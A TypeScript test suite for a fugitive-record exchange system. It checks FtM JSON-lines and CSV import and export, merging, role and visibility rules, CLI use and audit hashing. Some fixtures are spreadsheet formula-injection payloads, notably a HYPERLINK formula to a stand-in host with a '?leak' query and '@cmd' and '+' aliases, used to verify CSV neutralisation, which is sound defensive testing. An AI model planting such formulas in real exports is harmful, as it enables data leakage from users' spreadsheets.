import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { systemScope } from '../../src/db/database.ts';
import type { Role } from '../../src/db/schema.ts';
import { buildAgency, buildUser, createTestEnv, signedIn, type Client, type TestAgency, type TestEnv } from '../helpers/harness.ts';
import { runConcord } from '../helpers/concord-command.ts';

/**
 * FtM JSON lines and CSV exchange of wanted persons through the API and the command line: an export read back by
 * another agency's import (Chinese names intact), merges by entity id, all or nothing with line-numbered refusals,
 * roles, visibility (an agency exports only what it sees; another agency's campaign is not found), CSV cells safe
 * against spreadsheet formulas, and audit entries that carry counts and hashes, never names.
 */
interface Person {
  id: string;
  names: string[];
}
interface Entity {
  id: string;
  schema: string;
  properties: Record<string, string[]>;
  'concord:case': { wantingAgency: string | null; amount: { value: string; currency: string } | null };
}
interface Refusal {
  code: string;
  details?: { rule?: string; errors?: { line: number; message: string }[]; errorCount?: number };
}

const FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak","click")';

const concord = (args: string[], env: NodeJS.ProcessEnv) => runConcord(args, env);

describe('fugitives exchange: FtM JSON lines and CSV', () => {
  let env: TestEnv;
  let china: TestAgency;
  let singapore: TestAgency;
  let malaysia: TestAgency;
  let investigatorCN: Client;
  let analystCN: Client;
  let investigatorSG: Client;
  let analystMY: Client;
  let li: Person;
  let formula: Person;
  let hidden: Person;

  const client = async (agency: TestAgency, roles: Role[]) => signedIn(env, await buildUser(env, { agency, roles }));
  const ok = (response: LightMyRequestResponse, status = 200): LightMyRequestResponse => {
    assert.equal(response.statusCode, status, response.body);
    return response;
  };
  const refusal = (response: LightMyRequestResponse, status: number, code: string): Refusal => {
    assert.equal(response.statusCode, status, response.body);
    const body = response.json<Refusal>();
    assert.equal(body.code, code);
    return body;
  };
  const entities = (response: LightMyRequestResponse): Entity[] =>
    ok(response)
      .body.split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Entity);
  const csvRows = (response: LightMyRequestResponse): Record<string, string>[] => {
    ok(response);
    assert.match(String(response.headers['content-type']), /^text\/csv/);
    return parse<Record<string, string>>(response.body, { columns: true });
  };
  const personCount = (agencyId: string) =>
    env.services.db.inScope(systemScope, async (trx) => {
      const row = await sql<{ n: number }>`select count(*)::int as n from fugitives where agency_id = ${agencyId}`.execute(trx);
      return row.rows[0]?.n ?? -1;
    });
  const auditOf = async (agencyId: string, type: string) =>
    (
      await env.services.db.inScope(systemScope, (trx) =>
        trx
          .selectFrom('audit_log')
          .select('data')
          .where('agency_id', '=', agencyId)
          .where('event_type', '=', type)
          .orderBy('seq')
          .execute(),
      )
    ).map((row) => row.data);
  const line = (entity: unknown) => JSON.stringify(entity);

  before(async () => {
    env = await createTestEnv();
    china = await buildAgency(env, { state: 'CN' });
    singapore = await buildAgency(env, { state: 'SG' });
    malaysia = await buildAgency(env, { state: 'MY' });
    investigatorCN = await client(china, ['investigator']);
    analystCN = await client(china, ['analyst']);
    investigatorSG = await client(singapore, ['investigator']);
    analystMY = await client(malaysia, ['analyst']);
    li = ok(
      await investigatorCN.post('/api/fugitives', {
        names: ['李华波', 'Li Huabo'],
        aliases: ['Huabo Li'],
        birthDates: ['1962'],
        nationalities: ['CN'],
        gender: 'male',
        identifiers: [{ type: 'passport', number: 'G1234567', country: 'CN' }],
        offences: ['embezzlement'],
        amount: { value: '94000000.00', currency: 'CNY' },
        conversion: { rate: '0.1468', rateOn: '2015-01-30', currency: 'USD' },
        caseReferences: ['CN-2011-0042'],
        fledOn: '2011-01-10',
        fledFrom: 'CN',
      }),
      201,
    ).json<Person>();
    formula = ok(
      await investigatorCN.post('/api/fugitives', { names: [FORMULA_NAME], aliases: ['+86 10 0000', '@cmd'] }),
      201,
    ).json<Person>();
    hidden = ok(await investigatorCN.post('/api/fugitives', { names: ['何建军'] }), 201).json<Person>();
    // Li's published red notice shares him with every agency; the others stay with the NSC.
    const notice = ok(await investigatorCN.post(`/api/fugitives/${li.id}/notices`, { kind: 'red', requestedOn: '2015-02-01' }), 201).json<{
      id: string;
    }>();
    ok(await investigatorCN.post(`/api/fugitives/${li.id}/notices/${notice.id}/status`, { status: 'published', on: '2015-03-01' }));
  });
  after(() => env.close());

  it('exports the persons the agency sees as FtM JSON lines; another agency gets only the shared ones', async () => {
    const own = entities(await analystCN.get('/api/fugitives/export.jsonl'));
    assert.equal(own.length, 3);
    const liEntity = own.find((entity) => entity.id === `concord-${li.id}`);
    assert.ok(liEntity);
    assert.equal(liEntity.schema, 'Person');
    assert.deepEqual(liEntity.properties.name, ['李华波', 'Li Huabo']);
    assert.deepEqual(liEntity.properties.nationality, ['cn']);
    assert.deepEqual(liEntity.properties.passportNumber, ['G1234567']);
    assert.equal(liEntity['concord:case'].wantingAgency, china.shortName);
    assert.deepEqual(liEntity['concord:case'].amount, { value: '94000000.00', currency: 'CNY' });

    const theirs = entities(await analystMY.get('/api/fugitives/export.jsonl'));
    assert.deepEqual(
      theirs.map((entity) => entity.id),
      [`concord-${li.id}`],
    );
    // The other agency reads the wanting agency's short name, which row-level security on agencies would hide.
    assert.equal(theirs[0]?.['concord:case'].wantingAgency, china.shortName);
    const csv = csvRows(await analystMY.get('/api/fugitives/export.csv'));
    assert.deepEqual(
      csv.map((row) => row.id),
      [li.id],
    );
    assert.equal(
      csv.some((row) => row.caption === '何建军'),
      false,
    );
  });

  it('writes CSV with every listed column, text cells neutralised against formulas, and follows the search with q', async () => {
    const rows = csvRows(await analystCN.get('/api/fugitives/export.csv'));
    assert.equal(rows.length, 3);
    const liRow = rows.find((row) => row.id === li.id);
    assert.ok(liRow);
    assert.equal(liRow.caption, '李华波');
    assert.equal(liRow.names, '李华波; Li Huabo');
    assert.equal(liRow.wanting_agency, china.shortName);
    assert.equal(liRow.amount, '94000000.00');
    assert.equal(liRow.converted_amount, '13799200.00');
    assert.equal(liRow.converted_currency, 'USD');
    assert.equal(liRow.stage, 'at_large');
    assert.equal(liRow.at_large, 'true');
    assert.match(liRow.notice_references ?? '', /^$|red/);
    const formulaRow = rows.find((row) => row.id === formula.id);
    assert.ok(formulaRow);
    assert.equal(formulaRow.caption, `'${FORMULA_NAME}`);
    assert.equal(formulaRow.aliases, `'+86 10 0000; @cmd`);

    const found = csvRows(await analystCN.get(`/api/fugitives/export.csv?q=${encodeURIComponent('Li Huabo')}`));
    assert.deepEqual(
      found.map((row) => row.id),
      [li.id],
    );
    // Audited with the count and the query's SHA-256, never the name.
    const entries = await auditOf(china.id, 'fugitives.persons_exported');
    const last = entries.at(-1);
    assert.deepEqual(last, {
      format: 'csv',
      count: 1,
      queryHash: crypto.createHash('sha256').update('Li Huabo').digest('hex'),
      campaignId: null,
      notVisible: null,
    });
    assert.equal(JSON.stringify(entries).includes('Li Huabo'), false);
  });

  it('another agency imports the export (Chinese names intact), and importing it again changes nothing', async () => {
    const content = ok(await analystCN.get('/api/fugitives/export.jsonl')).body;
    const first = ok(await investigatorSG.post('/api/fugitives/import', { content })).json<unknown>();
    assert.deepEqual(first, { created: 3, updated: 0, unchanged: 0 });
    const again = ok(await investigatorSG.post('/api/fugitives/import', { content })).json<unknown>();
    assert.deepEqual(again, { created: 0, updated: 0, unchanged: 3 });

    const sgRows = csvRows(await investigatorSG.get('/api/fugitives/export.csv'));
    // Its three imported persons, and the NSC's Li whom the red notice shares.
    assert.equal(sgRows.length, 4);
    const imported = sgRows.filter((row) => row.wanting_agency === singapore.shortName);
    assert.deepEqual(imported.map((row) => row.caption).sort(), [`'${FORMULA_NAME}`, '何建军', '李华波'].sort());
    const importedLi = imported.find((row) => row.caption === '李华波');
    assert.ok(importedLi);
    assert.equal(importedLi.names, '李华波; Li Huabo');
    assert.equal(importedLi.converted_amount, '13799200.00');
    // The imported persons keep the NSC's entity ids, so that the next file merges into them.
    const sgEntities = entities(await investigatorSG.get('/api/fugitives/export.jsonl'));
    assert.equal(sgEntities.filter((entity) => entity.id === `concord-${li.id}`).length, 2);

    const audit = await auditOf(singapore.id, 'fugitives.persons_imported');
    assert.equal(audit.length, 2);
    assert.deepEqual(audit[0], { created: 3, updated: 0, unchanged: 0, sha256: crypto.createHash('sha256').update(content).digest('hex') });
    assert.equal((await auditOf(singapore.id, 'fugitives.person_created')).length, 3);
  });

  it('merges by entity id within the importing agency: an own export re-imported is unchanged, a changed line updates', async () => {
    const content = ok(await analystCN.get('/api/fugitives/export.jsonl')).body;
    const before = await personCount(china.id);
    assert.deepEqual(ok(await investigatorCN.post('/api/fugitives/import', { content })).json(), { created: 0, updated: 0, unchanged: 3 });
    const changed = content
      .split('\n')
      .filter((text) => text !== '')
      .map((text) => {
        const entity = JSON.parse(text) as Entity;
        if (entity.id === `concord-${hidden.id}`) entity.properties.alias = ['He Jianjun'];
        return JSON.stringify(entity);
      })
      .concat(line({ id: 'ext-42', schema: 'Person', properties: { name: ['孙丽华'], nationality: ['cn'] } }))
      .join('\n');
    assert.deepEqual(ok(await investigatorCN.post('/api/fugitives/import', { content: changed })).json(), {
      created: 1,
      updated: 1,
      unchanged: 2,
    });
    assert.equal(await personCount(china.id), before + 1);
    const person = ok(await investigatorCN.get(`/api/fugitives/${hidden.id}`)).json<{ aliases: string[] }>();
    assert.deepEqual(person.aliases, ['He Jianjun']);
    const updates = await auditOf(china.id, 'fugitives.person_updated');
    assert.deepEqual(updates.at(-1), { fugitiveId: hidden.id, fields: ['aliases'] });
  });

  it('is all or nothing: any bad line refuses the file with line numbers, and nothing is written', async () => {
    const before = await personCount(china.id);
    const content = [
      line({ id: 'new-1', schema: 'Person', properties: { name: ['新人'] } }),
      line({ id: 'org-1', schema: 'Company', properties: { name: ['Acme'] } }),
      line({ id: 'new-2', schema: 'Person', properties: { name: ['Someone'], nationality: ['qq'] } }),
    ].join('\n');
    const body = refusal(await investigatorCN.post('/api/fugitives/import', { content }), 400, 'INVALID_INPUT');
    assert.deepEqual(
      body.details?.errors?.map((problem) => problem.line),
      [2, 3],
    );
    assert.match(body.details.errors[0]?.message ?? '', /Company/);
    assert.equal(body.details.errorCount, 2);
    assert.equal(await personCount(china.id), before);
    // A file larger than the body limit is refused as too large.
    const large = await investigatorCN.post('/api/fugitives/import', { content: 'x'.repeat(9 * 1024 * 1024) });
    assert.equal(large.statusCode, 413, large.body);
    assert.equal(large.json<{ code: string }>().code, 'PAYLOAD_TOO_LARGE');
  });

  it('needs the create right: an analyst gets 403 by role; a viewer cannot export', async () => {
    const content = line({ id: 'a', schema: 'Person', properties: { name: ['A'] } });
    const body = refusal(await analystCN.post('/api/fugitives/import', { content }), 403, 'FORBIDDEN');
    assert.equal(body.details?.rule, 'role');
    const viewer = await client(china, ['viewer']);
    refusal(await viewer.get('/api/fugitives/export.csv'), 403, 'FORBIDDEN');
    refusal(await viewer.get('/api/fugitives/export.jsonl'), 403, 'FORBIDDEN');
  });

  it('exports a campaign’s visible members as CSV, counts the others; another agency’s campaign is not found', async () => {
    // A Singapore person shared by a red notice joins the NSC's campaign, then the notice is withdrawn.
    const sgPerson = ok(await investigatorSG.post('/api/fugitives', { names: ['Tan Ah Kow'] }), 201).json<Person>();
    const notice = ok(
      await investigatorSG.post(`/api/fugitives/${sgPerson.id}/notices`, { kind: 'red', requestedOn: '2020-01-01' }),
      201,
    ).json<{
      id: string;
    }>();
    const status = `/api/fugitives/${sgPerson.id}/notices/${notice.id}/status`;
    ok(await investigatorSG.post(status, { status: 'published', on: '2020-01-02' }));
    const campaign = ok(
      await investigatorCN.post('/api/fugitives/campaigns', { name: 'Exchange campaign', fugitiveIds: [formula.id, li.id, sgPerson.id] }),
      201,
    ).json<{ id: string }>();
    ok(await investigatorSG.post(status, { status: 'withdrawn', on: '2020-02-01' }));

    const response = await analystCN.get(`/api/fugitives/campaigns/${campaign.id}/export.csv`);
    const rows = csvRows(response);
    assert.deepEqual(rows.map((row) => row.id).sort(), [formula.id, li.id].sort());
    assert.equal(rows.find((row) => row.id === formula.id)?.caption, `'${FORMULA_NAME}`);
    assert.equal(response.headers['x-concord-not-visible'], '1');
    assert.deepEqual((await auditOf(china.id, 'fugitives.persons_exported')).at(-1), {
      format: 'csv',
      count: 2,
      queryHash: null,
      campaignId: campaign.id,
      notVisible: 1,
    });
    refusal(await investigatorSG.get(`/api/fugitives/campaigns/${campaign.id}/export.csv`), 404, 'NOT_FOUND');
    refusal(await analystMY.get(`/api/fugitives/campaigns/${crypto.randomUUID()}/export.csv`), 404, 'NOT_FOUND');
  });

  it('the CLI refuses a bad file naming the line, then imports and exports for the named agency', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'concord-ftm-'));
    try {
      const database: NodeJS.ProcessEnv =
        env.config.database.kind === 'postgresql'
          ? { DATABASE_URL: env.config.database.url }
          : { CONCORD_DATA_DIR: path.join(dir, 'data') };
      const good = [
        line({ id: 'cli-1', schema: 'Person', properties: { name: ['赵国平'], nationality: ['cn'], birthDate: ['1960-05'] } }),
        line({ id: 'cli-2', schema: 'Person', properties: { name: ['孙丽华'], gender: ['female'] } }),
      ];
      const bad = path.join(dir, 'bad.jsonl');
      fs.writeFileSync(
        bad,
        [good[0], line({ id: 'cli-x', schema: 'Person', properties: { name: ['X'], birthDate: ['yesterday'] } })].join('\n'),
      );
      const refused = await concord(['import', 'fugitives', bad, '--agency', 'FXA'], database);
      assert.equal(refused.code, 2, refused.stderr);
      assert.match(refused.stderr, /1 line of .*bad\.jsonl refused; nothing was imported:\n {2}line 2: birthDate\.0: /);
      if (env.config.database.kind === 'pglite') assert.equal(fs.existsSync(path.join(dir, 'data')), false);

      const created = await concord(
        ['agency', 'create', '--name', 'Exchange Test Agency', '--short-name', 'FXA', '--state', 'CN'],
        database,
      );
      assert.equal(created.code, 0, created.stderr);
      const file = path.join(dir, 'persons.jsonl');
      fs.writeFileSync(file, `${good.join('\n')}\n`);
      const imported = await concord(['import', 'fugitives', file, '--agency', 'fxa'], database);
      assert.equal(imported.code, 0, imported.stderr);
      assert.match(imported.stdout, /Imported 2 persons: 2 created, 0 updated, 0 unchanged\./);
      const again = await concord(['import', 'fugitives', file, '--agency', 'FXA'], database);
      assert.match(again.stdout, /Imported 2 persons: 0 created, 0 updated, 2 unchanged\./);

      const ftmFile = path.join(dir, 'out.jsonl');
      const exported = await concord(['export', 'fugitives', '--agency', 'FXA', '--format', 'ftm', '--output', ftmFile], database);
      assert.equal(exported.code, 0, exported.stderr);
      const lines = fs
        .readFileSync(ftmFile, 'utf8')
        .split('\n')
        .filter((text) => text !== '')
        .map((text) => JSON.parse(text) as Entity);
      // On the shared server database the agency also sees the other tests' person shared by a red notice.
      const own = lines.filter((entity) => entity['concord:case'].wantingAgency === 'FXA');
      assert.deepEqual(own.map((entity) => entity.id).sort(), ['cli-1', 'cli-2']);
      assert.equal(lines.length, env.config.database.kind === 'postgresql' ? 3 : 2);
      const csvFile = path.join(dir, 'out.csv');
      const csvExport = await concord(['export', 'fugitives', '--agency', 'FXA', '--format', 'csv', '--output', csvFile], database);
      assert.equal(csvExport.code, 0, csvExport.stderr);
      const rows = parse<Record<string, string>>(fs.readFileSync(csvFile, 'utf8'), { columns: true });
      assert.deepEqual(
        rows
          .filter((row) => row.wanting_agency === 'FXA')
          .map((row) => row.caption)
          .sort(),
        ['孙丽华', '赵国平'],
      );
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
